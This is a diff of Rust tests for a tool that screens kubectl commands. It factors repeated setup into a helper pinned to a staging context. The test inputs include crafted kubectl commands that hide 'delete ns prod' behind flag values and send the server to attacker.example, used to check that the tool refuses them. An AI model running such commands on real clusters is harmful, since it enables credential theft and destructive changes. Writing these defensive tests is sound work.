@@ -119,6 +119,19 @@ fn fake_kubectl(dir: &Path) -> (PathBuf, PathBuf) {
     (bin, log)
 }
 
+/// An environment pinned to the `staging` context whose kubectl is the stand-in; its
+/// tools and the stand-in's argv log.
+async fn staging(dir: &Path) -> (hunch::tools::Registry, PathBuf) {
+    let (bin, log) = fake_kubectl(dir);
+    let config = EnvironmentConfig {
+        kube_context: Some("staging".into()),
+        kubectl: Some(bin),
+        shell: Some(false),
+        ..Default::default()
+    };
+    (connect("staging", &config).await.unwrap().tools, log)
+}
+
 /// kubectl's own parsing: flags after `--` belong to the pod's command.
 fn kubectl_flags(argv: &str) -> Vec<&str> {
     argv.split('|')
@@ -130,21 +143,14 @@ fn kubectl_flags(argv: &str) -> Vec<&str> {
 #[tokio::test]
 async fn a_dry_run_and_the_pinned_context_never_land_behind_dashes() {
     let dir = tempfile::tempdir().unwrap();
-    let (bin, log) = fake_kubectl(dir.path());
-    let config = EnvironmentConfig {
-        kube_context: Some("staging".into()),
-        kubectl: Some(bin),
-        shell: Some(false),
-        ..Default::default()
-    };
-    let env = connect("staging", &config).await.unwrap();
+    let (tools, log) = staging(dir.path()).await;
     let calls = vec![
         kubectl("kubectl create job probe --image=busybox -n shop -- echo hi"),
         kubectl("kubectl get pods -n shop --"),
     ];
     let engine = Engine::new(
         EngineConfig {
-            tools: env.tools,
+            tools,
             ..demo_config(calls, dir.path())
         },
         "alice",
@@ -186,18 +192,11 @@ async fn a_dry_run_and_the_pinned_context_never_land_behind_dashes() {
 #[tokio::test]
 async fn a_call_with_no_dry_run_says_so_and_runs_nothing_before_the_decision() {
     let dir = tempfile::tempdir().unwrap();
-    let (bin, log) = fake_kubectl(dir.path());
-    let config = EnvironmentConfig {
-        kube_context: Some("staging".into()),
-        kubectl: Some(bin),
-        shell: Some(false),
-        ..Default::default()
-    };
-    let env = connect("staging", &config).await.unwrap();
+    let (tools, log) = staging(dir.path()).await;
     let exec = kubectl("kubectl exec orders-0 -n shop -- mv /data/a /data/b");
     let engine = Engine::new(
         EngineConfig {
-            tools: env.tools,
+            tools,
             ..demo_config(vec![exec], dir.path())
         },
         "alice",
@@ -462,21 +461,14 @@ use hunch::tools::{kubectl_risk, scope, sql_risk};
 #[tokio::test]
 async fn a_flag_value_cannot_pass_for_the_verb() {
     let dir = tempfile::tempdir().unwrap();
-    let (bin, log) = fake_kubectl(dir.path());
-    let config = EnvironmentConfig {
-        kube_context: Some("staging".into()),
-        kubectl: Some(bin),
-        shell: Some(false),
-        ..Default::default()
-    };
-    let env = connect("staging", &config).await.unwrap();
+    let (tools, log) = staging(dir.path()).await;
     let calls = vec![
         kubectl("kubectl --cache-dir get delete ns prod"),
         kubectl("kubectl --username get delete ns prod"),
     ];
     let engine = Engine::new(
         EngineConfig {
-            tools: env.tools,
+            tools,
             ..demo_config(calls, dir.path())
         },
         "alice",
@@ -515,15 +507,8 @@ async fn a_flag_value_cannot_pass_for_the_verb() {
 #[tokio::test]
 async fn a_server_or_identity_in_any_spelling_is_refused() {
     let dir = tempfile::tempdir().unwrap();
-    let (bin, log) = fake_kubectl(dir.path());
-    let config = EnvironmentConfig {
-        kube_context: Some("staging".into()),
-        kubectl: Some(bin),
-        shell: Some(false),
-        ..Default::default()
-    };
-    let env = connect("staging", &config).await.unwrap();
-    let tool = env.tools.get("kubectl").unwrap();
+    let (tools, log) = staging(dir.path()).await;
+    let tool = tools.get("kubectl").unwrap();
     for elsewhere in [
         "kubectl -shttps://attacker.example get pods",
         "kubectl get pods -Ashttps://attacker.example",
